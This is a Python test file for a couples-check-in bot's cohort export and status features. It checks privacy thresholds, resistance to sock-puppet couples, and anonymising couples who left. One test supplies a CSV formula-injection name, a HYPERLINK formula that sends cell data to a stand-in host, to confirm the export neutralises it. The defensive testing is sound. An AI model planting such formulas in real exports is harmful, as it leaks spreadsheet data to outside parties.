"""Cohorts end to end, what facilitators see: status and export, pooled figures only over
at least K couples, the interdependence check before and after."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from random import Random

from bot import texts
from bot.emulator import FakeBotAPI
from bot.sandbox import Sandbox, sandbox
from content.schema import Dimension
from scheduler.clock import ManualClock
from tests.conftest import Picker, invite_link, make_pair, start_user
from tests.e2e.helpers import (
    ADMIN,
    answer_everything,
    enrol_couples,
    link_in,
    make_facilitator,
    new_cohort,
    pass_everything,
    varied,
)


async def test_the_interdependence_check_before_and_after_with_k_couples(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    async with sandbox(
        db_url, clock=clock, fake=fake, picker=picker, admins=[ADMIN], min_pairs=3
    ) as box:
        fay = await make_facilitator(box, 800, "Fay")
        link = await new_cohort(fay)
        couples = []
        for n in range(3):
            a, b = box.fake.user(3001 + 2 * n, f"C{n}"), box.fake.user(3002 + 2 * n, f"D{n}")
            await start_user(a, "Berlin")
            await start_user(b, "Berlin")
            await a.send("/pair")
            await b.open_link(invite_link(a))
            await b.press(texts.INVITE_ACCEPT)
            await a.open_link(link)
            await a.press(texts.BTN_JOIN)
            await b.press(texts.BTN_JOIN)
            couples.append((a, b))

        async def check_day(when: datetime) -> None:
            marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
            await box.run_until(when)
            box.clock.set(when)
            await box.tick()
            for n, (a, b) in enumerate(couples):
                for user in (a, b):  # each couple its own answer: the means are not alike
                    await answer_everything(user, marks[user.user_id], n)

        await check_day(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))  # week 1: the check
        await check_day(datetime(2026, 4, 13, 19, 0, tzinfo=UTC))  # week 6: the check again
        await box.advance(datetime(2026, 4, 20, 9, 0, tzinfo=UTC) - box.clock.now())
        await fay.send("/cohorts")
        await fay.press(texts.BTN_STATUS)
        status = fay.chat.last.text
        assert texts.STATUS_CHECK in status
        program = box.runtime.content.programs["interdependence-6w"]
        assert status.count("\u2192") >= len(program.check)
        await fay.press(texts.BTN_EXPORT)
        document = fay.chat.last.document
        assert document is not None
        rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
        checks = [r for r in rows if r[0] == "check"]
        assert {r[2] for r in checks} == set(program.check)
        for _, _, _, before, after in checks:  # noisy, but within the scale, one decimal
            assert all(1.0 <= float(v) <= 5.0 and len(v) == 3 for v in (before, after))


async def test_a_figure_needs_k_couples_who_answered_it_not_counting_the_viewers_own(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    settings = {"admins": [ADMIN], "min_pairs": 3}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        fay = await make_facilitator(box, 800, "Fay")
        gus = await make_facilitator(box, 801, "Gus")
        link = await new_cohort(fay)
        await fay.send("/cohorts")
        await fay.press(texts.BTN_COFACILITATOR)
        await gus.open_link(link_in(fay))
        couples = await enrol_couples(box, link, 3)
        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
        # Only the first couple answers the check; in the second only one partner does, and
        # the third does not answer at all: one couple answered a check-in, fewer than K.
        # (A couple that kept every answer private would count: see the puppets test below.)
        (a0, b0), (a1, _), _ = couples
        for user in (a0, b0, a1):
            await answer_everything(user, marks[user.user_id])
        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
        await fay.send("/cohorts")
        await fay.press(texts.BTN_STATUS)
        status = fay.chat.last.text
        assert texts.STATUS_AGGREGATES_HIDDEN.format(k=3) in status
        assert "across" not in status and "\u2192" not in status.split("Couples who completed")[1]
        await fay.press(texts.BTN_EXPORT)
        assert fay.chat.last.document is not None
        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
        assert not [r for r in rows if r[0] in ("differences", "check")]
        # Not because nobody was asked: all three couples had the check round.
        assert len([r for r in rows if r[0] == "participation" and r[1] == "1"]) == 3


async def test_staff_couples_do_not_count_towards_k_for_anyone(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    settings = {"admins": [ADMIN], "min_pairs": 3}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        fay = await make_facilitator(box, 800, "Fay")
        gus = await make_facilitator(box, 801, "Gus")
        link = await new_cohort(fay)
        await fay.send("/cohorts")
        await fay.press(texts.BTN_COFACILITATOR)
        await gus.open_link(link_in(fay))
        # Fay takes part herself, with her partner, beside three other couples.
        pat = box.fake.user(802, "Pat")
        await start_user(pat, "Berlin")
        await fay.send("/timezone Berlin")
        await fay.send("/pair")
        await pat.open_link(invite_link(fay))
        await pat.press(texts.INVITE_ACCEPT)
        await fay.open_link(link)
        await fay.press(texts.BTN_JOIN)
        await pat.press(texts.BTN_JOIN)
        others = await enrol_couples(box, link, 3)
        couples = [(fay, pat), *others]
        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
        for n, (a, b) in enumerate(couples):
            for partner, user in enumerate((a, b)):
                await answer_everything(user, marks[user.user_id], varied(n, partner))
        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
        views = []
        for viewer in (fay, gus):
            await viewer.send("/cohorts")
            await viewer.press(texts.BTN_STATUS)
            views.append(viewer.chat.last.text.split("Couples who completed")[1])
        # Four couples answered, three besides Fay's own: enough (K = 3) for both of them,
        # and the same view for both (staff couples never count towards K for anyone).
        assert texts.STATUS_AGGREGATES.format(week=1, k=3) in views[0] and ": about " in views[0]
        assert views[0] == views[1]


async def test_a_couple_that_moves_cohorts_counts_only_where_it_answered(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    first = await new_cohort(fay)
    second = await new_cohort(fay)
    alex, sam = await make_pair(box)
    await alex.open_link(first)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_JOIN)
    marks = {u.user_id: len(u.chat.messages) for u in (alex, sam)}
    await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
    for user in (alex, sam):
        await answer_everything(user, marks[user.user_id])
    await alex.send("/leave_cohort")
    await alex.press(texts.BTN_LEAVE_YES)
    await alex.open_link(second)
    await alex.press(texts.BTN_JOIN)
    await sam.press(texts.BTN_JOIN)
    marks = {u.user_id: len(u.chat.messages) for u in (alex, sam)}
    await box.run_until(datetime(2026, 3, 11, 19, 0, tzinfo=UTC))
    for user in (alex, sam):
        await answer_everything(user, marks[user.user_id])
    await box.run_until(datetime(2026, 3, 16, 9, 0, tzinfo=UTC))
    await fay.send("/cohorts")
    exported = {}
    for message in fay.chat.messages[-2:]:  # newest cohort first
        await fay.press_data(
            message.message_id, f"co:export:{2 if message is fay.chat.messages[-2] else 1}"
        )
        document = fay.chat.last.document
        assert document is not None
        rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
        exported[fay.chat.last.text] = [r for r in rows if r[0] == "participation"]
    # Each cohort counts only the round it asked: the check in the first, one question in
    # the second (which, asking its own first round, started with the check too).
    assert all(len(rows) == 1 and rows[0][4] == "1" for rows in exported.values())


async def test_weeks_missed_during_downtime_are_still_frozen(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    settings = {"admins": [ADMIN], "min_pairs": 3}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        fay = await make_facilitator(box, 800, "Fay")
        link = await new_cohort(fay)
        couples = await enrol_couples(box, link, 3)
        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
        for n, (a, b) in enumerate(couples):
            for partner, user in enumerate((a, b)):
                await answer_everything(user, marks[user.user_id], varied(n, partner))
        box.clock.set(datetime(2026, 3, 24, 12, 0, tzinfo=UTC))  # down for two week boundaries
        await box.tick()
        await fay.send("/cohorts")
        await fay.press(texts.BTN_EXPORT)
        assert fay.chat.last.document is not None
        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
        assert {r[1] for r in rows if r[0] == "participation"} == {"1"}
        assert [r for r in rows if r[0] == "differences" and r[1] == "1"]  # frozen, K couples


async def test_the_export_never_hands_a_spreadsheet_a_formula(box: Sandbox) -> None:
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)
    mal = box.fake.user(1020, '=HYPERLINK("http://x.example/?"&A1,"x")')
    kit = box.fake.user(1021, "Kit")
    await start_user(mal, "Berlin")
    await start_user(kit, "Berlin")
    await mal.send("/pair")
    await kit.open_link(invite_link(mal))
    await kit.press(texts.INVITE_ACCEPT)
    await mal.open_link(link)
    await mal.press(texts.BTN_JOIN)
    await kit.press(texts.BTN_JOIN)
    await box.run_until(datetime(2026, 3, 16, 9, 0, tzinfo=UTC))
    await fay.send("/cohorts")
    await fay.press(texts.BTN_EXPORT)
    document = fay.chat.last.document
    assert document is not None
    rows = list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))
    names = [r[2] for r in rows if r[0] == "participation"]
    assert names and all(not n.startswith(("=", "+", "-", "@")) for n in names)


async def test_couples_enrolled_after_the_week_began_do_not_count_towards_k(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    """Sock puppets: a facilitator who enrols couples of their own once a week has begun
    cannot make up K with them for that week, however they answer."""
    settings = {"admins": [ADMIN], "min_pairs": 3, "noise": Random(1)}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        fay = await make_facilitator(box, 800, "Fay")
        link = await new_cohort(fay)
        real = await enrol_couples(box, link, 2)
        marks = {u.user_id: len(u.chat.messages) for pair in real for u in pair}
        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))  # week 1 has begun
        for n, (a, b) in enumerate(real):
            for partner, user in enumerate((a, b)):
                await answer_everything(user, marks[user.user_id], varied(n, partner))
        puppets = await enrol_couples(box, link, 2, first_id=4101)
        couples = [*real, *puppets]
        marks = {u.user_id: len(u.chat.messages) for pair in couples for u in pair}
        await box.run_until(datetime(2026, 3, 11, 19, 0, tzinfo=UTC))
        for n, (a, b) in enumerate(couples):
            for partner, user in enumerate((a, b)):
                await answer_everything(user, marks[user.user_id], varied(n + 1, partner))
        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
        await fay.send("/cohorts")
        await fay.press(texts.BTN_STATUS)
        assert texts.STATUS_AGGREGATES_HIDDEN.format(k=3) in fay.chat.last.text
        await fay.press(texts.BTN_EXPORT)
        assert fay.chat.last.document is not None
        rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
        assert not [r for r in rows if r[0] in ("differences", "check")]
        # Not because the puppets did not answer: all four couples completed check-ins.
        answered = [r for r in rows if r[0] == "participation" and r[1] == "1" and r[3] != "0"]
        assert len(answered) == 4


async def test_couples_a_facilitator_controls_cannot_tell_what_the_real_one_answered(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    """Probe of 2026-12-03: K - 1 sock-puppet couples that all answer alike, and one real
    couple. Which figures show must not depend on what the real couple answered: alike with
    the puppets, differently, or keeping everything private. Three facilitators run the same
    scenario side by side; each sees the same figures shown and withheld."""
    settings = {"admins": [ADMIN], "min_pairs": 3, "noise": Random(2)}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        runs = []
        for n, real in enumerate(("alike", "differs", "passes")):
            facilitator = await make_facilitator(box, 800 + n, f"Fay{n}")
            couples = await enrol_couples(box, await new_cohort(facilitator), 3, 4001 + 100 * n)
            runs.append((facilitator, couples, real))
        marks = {u.user_id: len(u.chat.messages) for _, cs, _ in runs for c in cs for u in c}
        await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))  # the check round
        for _, couples, real in runs:
            *puppets, (a, b) = couples
            for pa, pb in puppets:
                await answer_everything(pa, marks[pa.user_id])
                await answer_everything(pb, marks[pb.user_id])
            if real == "passes":
                await pass_everything(a, marks[a.user_id])
                await pass_everything(b, marks[b.user_id])
            else:
                await answer_everything(a, marks[a.user_id])
                await answer_everything(b, marks[b.user_id], 0 if real == "alike" else 2)
        await box.advance(datetime(2026, 3, 16, 9, 0, tzinfo=UTC) - box.clock.now())
        seen = []
        for facilitator, _, _ in runs:
            await facilitator.send("/cohorts")
            await facilitator.press(texts.BTN_STATUS)
            lines = facilitator.chat.last.text.splitlines()
            topics = {
                line.split(":")[0]: line.endswith(": withheld")
                for line in lines
                if line.startswith("\u2022 ") and (": about " in line or ": withheld" in line)
            }
            seen.append(topics)
        assert seen[0] and any(not withheld for withheld in seen[0].values())
        assert seen[0] == seen[1] == seen[2]


async def test_the_export_does_not_tell_how_a_couple_left(box: Sandbox) -> None:
    """Probe of 2026-12-03: after one partner's /delete the export kept only the other's name,
    which told a /delete (and who made it) from an unpair. Couples who left are not named."""
    fay = await make_facilitator(box, 800, "Fay")
    link = await new_cohort(fay)
    couples = await enrol_couples(box, link, 3)
    await box.run_until(datetime(2026, 3, 9, 19, 0, tzinfo=UTC))
    (_, f0), (e1, _), _ = couples
    await f0.send("/delete")
    await f0.press(texts.DELETE_YES)
    await e1.send("/unpair")
    await e1.press(texts.UNPAIR_YES)
    await box.run_until(datetime(2026, 3, 16, 9, 0, tzinfo=UTC))
    await fay.send("/cohorts")
    await fay.press(texts.BTN_EXPORT)
    assert fay.chat.last.document is not None
    rows = list(csv.reader(io.StringIO(fay.chat.last.document.decode("utf-8-sig"))))
    labels = sorted(r[2] for r in rows if r[0] == "participation")
    left = [texts.CSV_COUPLE_LEFT.format(n=n) for n in (1, 2)]
    assert labels == sorted(["E2 & F2", *left])


async def test_a_topic_pools_every_couple_asked_about_it_whatever_the_question(
    db_url: str, clock: ManualClock, fake: FakeBotAPI, picker: Picker
) -> None:
    """Review of 2026-12-03: a topic pooled only couples whose question could show a
    difference, so a stand-in for a sensitive question (given to couples who did not opt in)
    told a facilitator who had opted in. Now every couple asked about the topic counts: here
    week 3 asks only its opening boundaries question, which has no difference rule."""
    settings = {"admins": [ADMIN], "min_pairs": 3, "noise": Random(3)}
    async with sandbox(db_url, clock=clock, fake=fake, picker=picker, **settings) as box:
        fay = await make_facilitator(box, 800, "Fay")
        couples = await enrol_couples(box, await new_cohort(fay, days=("Mon",)), 3)
        program = box.runtime.content.programs["interdependence-6w"]
        opening = box.runtime.content.questions[program.week(2).questions[0]]
        assert opening.mismatch is None and opening.dimension is Dimension.BOUNDARIES
        await box.run_until(datetime(2026, 3, 22, 12, 0, tzinfo=UTC))
        marks = {u.user_id: len(u.chat.messages) for c in couples for u in c}
        await box.run_until(datetime(2026, 3, 23, 19, 30, tzinfo=UTC))  # week 3, Monday
        for user in (u for c in couples for u in c):
            await answer_everything(user, marks[user.user_id])
        await box.advance(datetime(2026, 3, 30, 9, 0, tzinfo=UTC) - box.clock.now())
        await fay.send("/cohorts")
        await fay.press(texts.BTN_STATUS)
        label = Dimension.BOUNDARIES.label
        assert f"\u2022 {label}: about " in fay.chat.last.text
